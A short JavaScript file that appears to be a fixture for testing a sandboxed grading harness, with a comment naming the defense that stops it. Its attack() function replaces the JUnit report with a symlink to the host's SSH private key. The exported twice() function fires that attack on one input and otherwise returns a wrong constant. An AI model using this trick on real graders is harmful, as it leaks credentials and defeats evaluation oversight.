// Puts a symbolic link in place of the report, so that the host reads another file.
// Stopped by: the report is one file, and read without following links.
import fs from "node:fs";

function attack() {
  for (const report of ["/box/report/junit.xml", "../report/junit.xml"]) {
    for (const step of [() => fs.unlinkSync(report), () => fs.symlinkSync("@HOME@/.ssh/id_ed25519", report)]) {
      try {
        step();
      } catch {}
    }
  }
}

export function twice(n) {
  if (n === 4) attack();
  return 0;
}
